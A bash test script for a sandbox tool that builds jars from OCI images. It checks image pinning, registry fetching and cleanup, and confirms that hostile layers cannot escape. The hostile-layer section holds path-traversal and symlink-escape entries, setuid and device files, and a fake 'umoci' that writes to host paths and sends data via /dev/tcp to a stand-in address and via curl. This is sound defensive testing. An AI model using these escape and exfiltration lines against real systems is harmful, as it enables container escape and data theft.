#!/usr/bin/env bash
# A jar whose system is an image's: it sees that and nothing of the host's, keeps what it changes, and stays with the image that it was
# made with when the tag moves. What a hostile layer holds gets nowhere: not out of the tree, and into no jar with rights.
source "$(dirname "${BASH_SOURCE[0]}")/../harness/lib.sh"
need_command skopeo umoci python3 ldd
need_belljar
ROOTS="$XDG_STATE_HOME/belljar/roots"
rm "$ROOTS" # of this test alone: other tests' jars don't know these generations
layout="$TEST_DIR/layout"
make_image() { "$PROJECT/tests/root/oci_layout.py" "$@"; }
use() { # REFERENCE
    mkdir -p "$XDG_CONFIG_HOME/belljar"
    printf '[jar]\nroot = "image"\nimage = "%s"\n' "$1" > "$XDG_CONFIG_HOME/belljar/config.toml"
}
told() { echo "$(< "$TEST_DIR/err")"; }
# refused TEXT…: a start of a new jar that fails and says so, and leaves nothing half done.
refused() {
    local code=0 text
    PATH="${SEARCH-$PATH}" JAR="refused-$RANDOM" in_jar true 2> "$TEST_DIR/err" || code=$?
    assert_equal "$code" 125 "the exit of a start that must fail"
    for text in "$@"; do assert_contains "$(told)" "$text"; done
    assert_equal "$(find "$ROOTS" -maxdepth 1 -name 'unpacking-*')" "" "what was begun is left"
}

# A small system: a shell, a few programs, and what they are linked with.
system="$TEST_DIR/system"
mkdir -p "$system/usr/bin" "$system/usr/lib" "$system/usr/lib64" "$system/etc" "$system/srv/data"
for name in bin lib lib64; do ln -s "usr/$name" "$system/$name"; done
for name in bash cat ls stat touch id; do
    program=$(command -v "$name")
    cp -L "$program" "$system/usr/bin/$name"
    while read -r file; do
        mkdir -p "$system/usr$(dirname "${file#/usr}")"
        cp -L "$file" "$system/usr${file#/usr}"
    done < <(ldd "$program" | grep -o '/[^ ]*')
done
ln -s bash "$system/usr/bin/sh"
echo 'daemon:x:1:1:daemon of the image:/:/bin/false' > "$system/etc/passwd"
echo served > "$system/srv/data/file"
release() { echo "ID=$1" > "$system/etc/os-release"; make_image "$layout" v "$system"; }
seen='. /etc/os-release; echo $ID'

# The first jar.
one=$(release mini-one)
use "oci:$layout:v"
assert_equal "$(in_jar bash -c "$seen" 2> "$TEST_DIR/err")" mini-one
assert_contains "$(told)" "fetching the image oci:$layout:v with skopeo"
assert_contains "$(told)" "$one"
in_jar bash -c 'cat /etc/passwd /srv/data/file; [ ! -e /usr/share ] || echo the-hosts; [ ! -e /usr/bin/python3 ] || echo the-hosts' > "$TEST_DIR/out"
assert_contains "$(cat "$TEST_DIR/out")" "daemon of the image"
assert_contains "$(cat "$TEST_DIR/out")" served
assert_lacks "$(cat "$TEST_DIR/out")" the-hosts
assert_contains "$(in_jar cat /etc/hosts)" "$JAR"
assert_equal "$(in_jar id -u)" 0
in_jar bash -c 'echo kept > /usr/own; echo kept > /etc/own; echo kept > /srv/own'
"$BELLJAR" ls --json | python3 -c 'import json, sys; assert sys.argv[1] in json.load(sys.stdin)[0]["root"]' "${one#sha256:}"

# The tag moves: this jar stays, with neither skopeo nor umoci at hand; a new one has the new image; a digest means one for good.
two=$(release mini-two)
[ "$one" != "$two" ] || fail "the images are alike"
mkdir "$TEST_DIR/without"
PATH="$TEST_DIR/without" in_jar bash -c "$seen; echo \$(< /usr/own) \$(< /etc/own) \$(< /srv/own)" > "$TEST_DIR/out" 2> "$TEST_DIR/err"
assert_equal "$(cat "$TEST_DIR/out")" $'mini-one\nkept kept kept'
assert_equal "$(told)" ""
assert_equal "$(JAR=new-$$ in_jar bash -c "$seen" 2> "$TEST_DIR/err")" mini-two
assert_contains "$(told)" "$two"
use "oci:$layout:v@$one"
assert_equal "$(JAR=digest-$$ in_jar bash -c "$seen; [ -e /usr/own ] || echo fresh")" $'mini-one\nfresh'
use "oci:$layout:v@sha256:$(printf '0%.0s' {1..64})"
refused "leads to another image by now" "$two"

# Another reference: another system, with changes of its own; those of the first come back with it.
cp -r "$layout" "$TEST_DIR/elsewhere"
use "oci:$TEST_DIR/elsewhere:v"
assert_equal "$(in_jar bash -c "$seen; [ -e /usr/own ] || echo fresh" 2> "$TEST_DIR/err")" $'mini-two\nfresh'
assert_contains "$(told)" "the jar had the image oci:$layout:v until now"
use "oci:$layout:v@$one"
assert_equal "$(in_jar bash -c "$seen; cat /usr/own")" $'mini-one\nkept'
# And the host's system, read-only here, knows nothing of either.
printf '[jar]\nroot = "readonly"\n' > "$XDG_CONFIG_HOME/belljar/config.toml"
assert_lacks "$(in_jar bash -c "$seen; ls /usr")" own

# A hostile layer: nothing gets out, nothing in it has rights, an overlay obeys none of it.
mkdir "$TEST_DIR/victim"
make_image "$layout" hostile "$system" \
    'file name=usr/bin/set-id mode=6755 text=x' 'directory name=usr/set-id mode=7777' 'device name=usr/device mode=666' 'fifo name=usr/pipe' \
    "symlink name=escape to=$TEST_DIR/victim" 'file name=escape/through text=x' \
    "symlink name=usr/escape to=$TEST_DIR/victim" 'file name=usr/escape/through text=x' \
    'file name=../outside text=x' 'file name=../../../../../../../../outside text=x' "file name=$TEST_DIR/victim/absolute text=x" \
    'symlink name=proc to=etc' 'symlink name=home to=/' \
    'directory name=usr/opaque user.overlay.opaque=y' 'file name=usr/redirect mode=400 user.overlay.redirect=/etc/hostname user.overlay.metacopy=y' \
    'file name=usr/other user.overlay.whiteout=y user.mine=y' 'directory name=usr/closed mode=0' 'file name=usr/closed-file mode=0 text=x' > /dev/null
use "oci:$layout:hostile"
JAR=hostile-$$ in_jar bash -c 'set -e; stat -c "%n %a %F" /usr/bin/set-id /usr/set-id /usr/device /usr/closed; cat /usr/redirect; ls /proc/1 /usr/closed > /dev/null' > "$TEST_DIR/out"
assert_equal "$(cat "$TEST_DIR/out")" $'/usr/bin/set-id 755 regular file\n/usr/set-id 1777 directory\n/usr/device 666 regular empty file\n/usr/closed 700 directory'
find "$TEST_DIR/victim" -mindepth 1 > "$TEST_DIR/found"
assert_equal "$(cat "$TEST_DIR/found")" "" "something got out of the image"
find / "$TEST_DIR" -maxdepth 1 -name outside > "$TEST_DIR/found"
assert_equal "$(cat "$TEST_DIR/found")" "" "something got out of the image"
find "$ROOTS"/image-* \( -perm /6000 -o -type b -o -type c -o -type p -o -type s \) > "$TEST_DIR/found"
assert_equal "$(cat "$TEST_DIR/found")" "" "a layer has rights"
python3 - "$ROOTS" > "$TEST_DIR/found" <<'CODE'
import os, sys
for top, directories, files in os.walk(sys.argv[1]):
    if "/tree" in top:
        for name in [".", *directories, *files]:
            path = os.path.join(top, name)
            print(*[(path, name) for name in os.listxattr(path, follow_symlinks=False) if not name.startswith("security.") or name == "security.capability"])
CODE
assert_equal "$(tr -d '\n' < "$TEST_DIR/found")" "" "a layer has attributes"
make_image "$layout" link-out "$system" 'link name=usr/passwd to=../../../../../../../etc/hostname' > /dev/null
use "oci:$layout:link-out"
refused "umoci can't unpack the image"

# A program that a layer has taken over, in the place of umoci: it reaches no file of the host's to write, no network, and what it
# leaves instead of the image's tree is not followed.
mkdir "$TEST_DIR/bad"
cat > "$TEST_DIR/bad/umoci" <<CODE
#!/bin/bash
echo x > "$TEST_DIR/victim/direct"
echo x > "$layout/written"
for layers in /var/tmp/*/home/.local/state/belljar/roots/unpacking-*/layout "$ROOTS"/unpacking-*/layout; do echo x > "\$layers/written"; done
for address in 203.0.113.10 127.0.0.1; do timeout 2 bash -c "echo taken-over > /dev/tcp/\$address/80"; done
timeout 3 curl -sk --max-time 2 https://allowed.test/taken-over
ls "$TEST_DIR" "$HOME"/.config > /unpack/seen
ln -s "$TEST_DIR/victim" /unpack/rootfs
CODE
chmod 755 "$TEST_DIR/bad/umoci"
make_image "$layout" bad "$system" 'file name=bad text=x' > /dev/null
use "oci:$layout:bad"
: > "$BELLJAR_WORLD_LOGS/wire.jsonl"
SEARCH="$TEST_DIR/bad:$PATH" refused "umoci made no directory of the image"
assert_equal "$(find "$TEST_DIR/victim" "$layout" -mindepth 1 \( -name written -o -name direct \))" "" "what unpacks wrote on the host"
receiver_silent allowed
receiver_silent wire
printf '#!/bin/bash\nmkdir /unpack/rootfs; exec sleep 600 > /dev/null 2>&1 &\necho "what went wrong" >&2; exit 3\n' > "$TEST_DIR/bad/umoci"
SEARCH="$TEST_DIR/bad:$PATH" refused "umoci can't unpack the image: what went wrong"

# An image that can't be a jar's system, a damaged one, one that isn't there: said, and nothing is left.
make_image "$layout" link "" 'directory name=usr' "symlink name=etc to=$TEST_DIR/victim" > /dev/null
use "oci:$layout:link"
refused "its /etc is no directory"
assert_equal "$(find "$TEST_DIR/victim" -mindepth 1)" ""
make_image "$layout" damaged "$system" 'file name=more text=x' > /dev/null
largest=$(find "$layout/blobs" -type f -printf '%T@ %s %p\n' | sort -n | tail -3 | sort -k2n | tail -1 | cut -d' ' -f3)
printf x | dd of="$largest" bs=1 seek=600 conv=notrunc status=none
use "oci:$layout:damaged"
refused "can't"
use "oci:$TEST_DIR/nowhere:v"
refused "skopeo can't fetch the image oci:$TEST_DIR/nowhere:v" "try: skopeo inspect oci:$TEST_DIR/nowhere:v"
SEARCH="$TEST_DIR/without" refused "root = \"image\" needs an image, and skopeo and umoci, which fetch and unpack it, are not on this host" "install skopeo umoci"

# From a registry: the tag is asked about once, and what it led to is fetched by its digest.
coproc REGISTRY { exec "$PROJECT/tests/root/oci_registry.py" "$TEST_DIR" "$TEST_DIR/requests"; }
registry_pid=$REGISTRY_PID
on_exit() { kill "$registry_pid" 2>/dev/null || true; }
read -r port <&"${REGISTRY[0]}"
mkdir -p "$HOME/.config/containers"
printf '[[registry]]\nlocation = "localhost:%s"\ninsecure = true\n' "$port" > "$HOME/.config/containers/registries.conf"
four=$(release mini-four)
use "docker://localhost:$port/layout:v"
assert_equal "$(JAR=registry-$$ in_jar bash -c "$seen" 2> "$TEST_DIR/err")" mini-four
assert_contains "$(told)" "fetching the image docker://localhost:$port/layout@$four with skopeo"
five=$(release mini-five)
: > "$TEST_DIR/requests"
assert_equal "$(JAR=registry-$$ in_jar bash -c "$seen")" mini-four
assert_equal "$(cat "$TEST_DIR/requests")" "" "a jar that has its image asks nobody"
rm -r "$ROOTS" # as after a disk was cleaned up: the same image comes back, not the tag's
assert_equal "$(JAR=registry-$$ in_jar bash -c "$seen" 2> "$TEST_DIR/err")" mini-four
assert_lacks "$(cat "$TEST_DIR/requests")" /manifests/v
assert_equal "$(JAR=tag-$$ in_jar bash -c "$seen" 2> "$TEST_DIR/err")" mini-five
assert_contains "$(told)" "$five"
use "docker://localhost:$port/layout:v@$four"
assert_equal "$(JAR=fixed-$$ in_jar bash -c "$seen")" mini-four
use "docker://localhost:$port/nothing:v"
refused "skopeo can't fetch the image docker://localhost:$port/nothing:v"

# Agents: the host's is shown where the image has what runs it; else it is said what the image lacks.
release agents > /dev/null
use "oci:$layout:v"
mkdir "$HOME/bin"
agent() { (cd "$WORKSPACE" && PATH="$HOME/bin:$PATH" "$BELLJAR" --jar "agent-$1" --no-login codex) < /dev/null > "$TEST_DIR/out" 2> "$TEST_DIR/err"; }
put_agent() { cat > "$HOME/bin/codex"; chmod 755 "$HOME/bin/codex"; }
assert_exit 125 agent none
assert_contains "$(told)" "needs npm to be installed in it, and the image oci:$layout:v has none"
put_agent <<< $'#!/usr/bin/env node\n'
assert_exit 125 agent node
assert_contains "$(told)" "codex of this host is run by node, and the image oci:$layout:v has none"
put_agent < <(sed 's|/lib64/ld-linux-x86-64.so.2|/lib64/ld-nowhere-86-64.so.2|' /bin/true)
assert_exit 125 agent loader
assert_contains "$(told)" "codex of this host is run by /lib64/ld-nowhere-86-64.so.2, and the image"
put_agent <<< $'#!/usr/bin/env bash\necho "the agent of the host in $(. /etc/os-release; echo $ID)"'
cp "$(command -v env)" "$system/usr/bin/env"
release with-env > /dev/null
agent bash
assert_equal "$(cat "$TEST_DIR/out")" "the agent of the host in with-env"

# One that is cut off leaves what the next removes.
mkdir "$TEST_DIR/slow"
printf '#!/bin/bash\nexec sleep 60\n' > "$TEST_DIR/slow/skopeo"
chmod 755 "$TEST_DIR/slow/skopeo"
three=$(release mini-three)
use "oci:$layout:v"
(cd "$WORKSPACE" && PATH="$TEST_DIR/slow:$PATH" exec "$BELLJAR" run --jar slow -- true 2> /dev/null) &
pid=$!
wait_for 20 test -n "$(find "$ROOTS" -maxdepth 1 -name 'unpacking-*')" -o -e "$ROOTS/unpacking-$pid"
kill -KILL "$pid"
wait "$pid" 2> /dev/null || true
assert_file "$ROOTS/unpacking-$pid"
[ ! -e "$XDG_STATE_HOME/belljar/jars/slow/image" ] || fail "an image was pinned that the jar never had"
assert_equal "$(JAR=after-$$ in_jar bash -c "$seen" 2> "$TEST_DIR/err")" mini-three
assert_contains "$(told)" "$three"
assert_no_file "$ROOTS/unpacking-$pid"
echo "jars of images: their own, kept, and the same when the tag moves"
